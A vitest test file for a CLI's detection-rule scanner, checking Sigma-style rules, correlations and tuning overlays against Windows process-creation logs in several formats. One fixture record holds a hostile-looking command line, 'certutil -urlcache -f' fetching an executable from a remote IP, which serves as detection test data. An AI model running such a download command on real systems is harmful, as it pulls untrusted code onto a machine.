import { cpSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { gitsoc } from '../support/cli.ts'
import { evtxFile } from '../support/evtx-file.ts'
import { folderOf } from '../support/folder.ts'
import { smallContent } from '../support/small-content.ts'
import { zipFile } from '../support/zip-file.ts'

const content = smallContent()
const scan = (...args: readonly string[]) => gitsoc('rules', 'scan', ...args, '--content', content)

const rules = {
  'rules/office.yml': `
title: Office starts a shell
id: 10000000-0000-4000-8000-000000000000
name: office
level: high
tags: [attack.t1204.002]
logsource: { product: windows, category: process_creation }
detection:
  selection: { ParentImage|endswith: winword.exe, Image|endswith: cmd.exe }
  condition: selection
`,
  'rules/several.yml': `
title: Several of these
id: 20000000-0000-4000-8000-000000000000
level: low
correlation:
  type: event_count
  rules: [office]
  group-by: [Computer]
  timespan: 5m
  condition: { gte: 2 }
`,
}

const data = (image: string) => ({ Image: `C:\\Windows\\${image}`, ParentImage: 'C:\\Office\\WINWORD.EXE' })
const channel = 'Microsoft-Windows-Sysmon/Operational'
const computer = 'ws-1.example.com'
const at = (second: number) => new Date(Date.UTC(2026, 4, 12, 8, 0, second))

/** The same event in each form in which Windows events come. */
const flat = (image: string, second: number) => ({
  ...data(image),
  ...{ EventID: 1, Channel: channel, Hostname: computer, EventTime: at(second).toISOString(), RecordNumber: second },
})
const nested = (image: string, second: number) => ({
  Event: {
    System: {
      ...{ EventID: 1, Channel: channel, Computer: computer, EventRecordID: second },
      TimeCreated: { '#attributes': { SystemTime: at(second).toISOString() } },
    },
    EventData: data(image),
  },
})
const winlogbeat = (image: string, second: number) => ({
  '@timestamp': at(second).toISOString(),
  winlog: { event_id: 1, channel, computer_name: computer, record_id: second, event_data: data(image) },
})
const lines = (...records: readonly unknown[]) => records.map((one) => `${JSON.stringify(one)}\n`).join('')
const written = (image: string, second: number) => ({
  ...{ id: 1, channel, computer, provider: 'Microsoft-Windows-Sysmon', at: at(second), record: BigInt(second) },
  data: Object.entries(data(image)),
})

test.each<[string, string | Uint8Array]>([
  ['NDJSON of NXLog', lines(flat('calc.exe', 1), flat('cmd.exe', 2))],
  ['NDJSON of winlogbeat', lines(winlogbeat('calc.exe', 1), winlogbeat('cmd.exe', 2))],
  ['a JSON list of event dumps', JSON.stringify([nested('calc.exe', 1), nested('cmd.exe', 2)], null, 1)],
  ['gzip', gzipSync(lines(flat('calc.exe', 1), flat('cmd.exe', 2)))],
  ['zip', zipFile([{ name: 'a.json', content: lines(flat('calc.exe', 1), flat('cmd.exe', 2)) }])],
  ['EVTX', evtxFile([written('calc.exe', 1), written('cmd.exe', 2)])],
])('a match in %s is printed with rule, event and file, and the exit code is 1', async (_name, content) => {
  const dir = folderOf({ ...rules, log: content })
  const { out, json, exitCode } = await scan(join(dir, 'log'), '--rules', join(dir, 'rules'), '--json')
  const [match, ...more] = out
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as unknown)
  expect(match).toMatchObject({
    ...{ rule: '10000000-0000-4000-8000-000000000000', title: 'Office starts a shell', level: 'high' },
    ...{ techniques: ['T1204.002'], file: join(dir, 'log'), event: 2, occurredAt: at(2).toISOString() },
    seen: { 'Image|endswith': 'C:\\Windows\\cmd.exe' },
  })
  expect(more).toHaveLength(1)
  expect(json()).toMatchObject({ files: 1, records: 2, events: 2, matches: 1, unread: { count: 0 } })
  expect(exitCode).toBe(1)
})

test('correlations fire over the events of all files, in the text for a person too', async () => {
  const dir = folderOf({ ...rules, 'logs/a': lines(flat('cmd.exe', 1)), 'logs/b': lines(flat('cmd.exe', 2)) })
  const { out } = await scan(join(dir, 'logs'), '--rules', join(dir, 'rules'))
  expect(out).toContain(`high          ${join(dir, 'logs/a')}:1 2026-05-12T08:00:01.000Z Office starts a shell`)
  expect(out).toContain(`low           ${join(dir, 'logs/b')}:1 2026-05-12T08:00:02.000Z Several of these`)
  expect(out).toContain('    count = 2\n    Computer = "ws-1.example.com"\n')
  expect(out).toContain('3 matches of 2 rules on 2 events in 2 files (1 detection rules, 1 correlations)')
})

test('--level leaves out what is below', async () => {
  const dir = folderOf({ ...rules, log: lines(flat('cmd.exe', 1), flat('cmd.exe', 2)) })
  const { out } = await scan(join(dir, 'log'), '--rules', join(dir, 'rules'), '--level', 'medium')
  expect(out).toContain('2 matches of 1 rules')
})

/** A repository whose overlays tune the rules above, with those rules as a pack of it. */
async function tunedContent(...overlays: readonly string[]) {
  const dir = folderOf({
    log: lines(flat('cmd.exe', 1), flat('cmd.exe', 2)),
    ...Object.fromEntries(
      overlays.map((text, index) => [
        `rules/overlays/o${index}.yaml`,
        `id: o${index}\ntitle: Ours ${index}\nowner: endpoint\nreason: the deployment tool\n${text}`,
      ]),
    ),
  })
  cpSync(content, dir, { recursive: true })
  const source = folderOf({ 'office.yml': rules['rules/office.yml'], LICENSE: 'Do what you like.\n' })
  const { exitCode } = await gitsoc('rules', 'add', `office@${source}`, '--content', dir)
  expect(exitCode).toBe(0)
  return dir
}

const tunedScan = (dir: string, ...args: readonly string[]) =>
  gitsoc('rules', 'scan', join(dir, 'log'), '--content', dir, '--json', ...args)
const byId = 'rules: { id: [10000000-0000-4000-8000-000000000000] }\n'

test.each<[string, string, readonly string[]]>([
  ['an id', byId, ['rules/detection/packs/office']],
  ['a pack', 'rules: { pack: office }\n', ['rules/detection/packs/office']],
  ['a path', 'rules: { path: "rules/detection/packs/**" }\n', ['rules/detection/packs/office']],
])(
  'an overlay over %s withholds matches, which are counted with who, why and until when',
  async (_name, which, from) => {
    const dir = await tunedContent(`${which}expires: 2999-01-01\ndisable: true\n`)
    const { json, exitCode } = await tunedScan(dir, '--rules', ...from.map((path) => join(dir, path)))
    expect(json()).toMatchObject({ matches: 0, matched: [], withheld: [{ overlay: 'o0', events: 2 }] })
    expect(JSON.stringify(json())).toContain(
      'is switched off until 2999-01-01 by \\"Ours 0\\" of endpoint: the deployment tool',
    )
    expect(exitCode).toBe(0)
    const raw = await tunedScan(dir, '--no-overlays', '--rules', ...from.map((path) => join(dir, path)))
    expect(raw.json()).toMatchObject({ matches: 2, withheld: [] })
  },
)

test('an overlay may exclude events, which correlations then do not count, and change a severity', async () => {
  const dir = await tunedContent(
    `${byId}expires: 2999-01-01\nexclude: { EventTime|endswith: '08:00:02.000Z' }\n`,
    `${byId}expires: 2999-01-01\nseverity: low\n`,
  )
  const both = folderOf(rules)
  const { out, json } = await tunedScan(dir, '--rules', both)
  expect(JSON.parse(out.split('\n')[0] ?? '')).toMatchObject({ event: 1, level: 'low', overlay: /./ })
  expect(json()).toMatchObject({ matches: 1, withheld: [{ overlay: 'o0', events: 1 }] })
  expect((await tunedScan(dir, '--no-overlays', '--rules', both)).json()).toMatchObject({ matches: 3 })
})

test('an overlay that is over changes nothing, and one over an own rule holds without --rules', async () => {
  const over = await tunedContent(`${byId}expires: 2026-01-01\ndisable: true\n`)
  const pack = join(over, 'rules/detection/packs/office')
  expect((await tunedScan(over, '--rules', pack)).json()).toMatchObject({ matches: 2, withheld: [] })
  const own = await tunedContent(
    'rules: { path: "rules/detection/win_certutil*" }\nexpires: 2999-01-01\ndisable: true\n',
  )
  const record = { ...flat('certutil.exe', 1), CommandLine: 'certutil -urlcache -f http://198.51.100.7/a a.exe' }
  writeFileSync(join(own, 'log'), lines(record))
  expect((await tunedScan(own, '--no-overlays')).json()).toMatchObject({ matches: 1 })
  expect((await tunedScan(own)).json()).toMatchObject({ matches: 0, withheld: [{ overlay: 'o0', events: 1 }] })
})

test('records that cannot be read are counted and named, and files that break off as well', async () => {
  const dir = folderOf({
    ...rules,
    'logs/a': `${lines(flat('calc.exe', 1))}{"EventID":\n`,
    'logs/b': gzipSync(lines(flat('cmd.exe', 2))).subarray(0, 60),
  })
  const { json, exitCode } = await scan(join(dir, 'logs'), '--rules', join(dir, 'rules'), '--json')
  expect(json()).toMatchObject({
    unread: { count: 1, codes: { unparsable: 1 }, first: [{ file: join(dir, 'logs/a'), event: 2 }] },
    faults: [{ file: join(dir, 'logs/b') }],
  })
  expect(exitCode).toBe(1)
})

test('records whose log source cannot be known are taken as they are when their log source is given', async () => {
  const record = lines(data('cmd.exe'))
  const dir = folderOf({ ...rules, log: record })
  const scanned = (...more: readonly string[]) =>
    scan(join(dir, 'log'), '--rules', join(dir, 'rules'), '--json', ...more)
  expect((await scanned()).json()).toMatchObject({ matches: 0, logsources: { 'generic/any': 1 } })
  const given = await scanned('--logsource', 'product=windows,category=process_creation')
  expect(given.json()).toMatchObject({ matches: 1, logsources: { 'windows/process_creation': 1 } })
})

test('our own rules are used when none are given, and an exit code of 0 says that none fired', async () => {
  const dir = folderOf({ log: lines({ ...flat('calc.exe', 1), ParentImage: 'C:\\Windows\\explorer.exe' }) })
  const { out, exitCode } = await gitsoc('rules', 'scan', join(dir, 'log'))
  expect(out).toMatch(
    /^0 matches of 0 rules on 1 events in 1 files \(\d{2,} detection rules, \d+ correlations\)\nlog sources of the events: windows\/process_creation\/sysmon 1\n$/,
  )
  expect(exitCode).toBe(0)
})

test('a rule that does not compile is left out and said', async () => {
  const dir = folderOf({ ...rules, 'rules/bad.yml': 'title: x\nlogsource: {}\n', log: lines(flat('cmd.exe', 1)) })
  const { err, out } = await scan(join(dir, 'log'), '--rules', join(dir, 'rules'))
  expect(err).toMatch(/^1 rule files do not compile and are left out; gitsoc rules check /)
  expect(out).toContain('1 matches')
})

test.each([
  ['a file that is not there', ['/nowhere/log']],
  ['an integration that is not there', ['package.json', '--source', 'nothing']],
  ['a log source that is none', ['package.json', '--logsource', 'windows']],
  ['rules that are not there', ['package.json', '--rules', '/nowhere']],
])('%s is wrong usage', async (_name, args) => {
  const { exitCode, err } = await scan(...args)
  expect(exitCode).toBe(2)
  expect(err).toMatch(/^gitsoc: /)
})
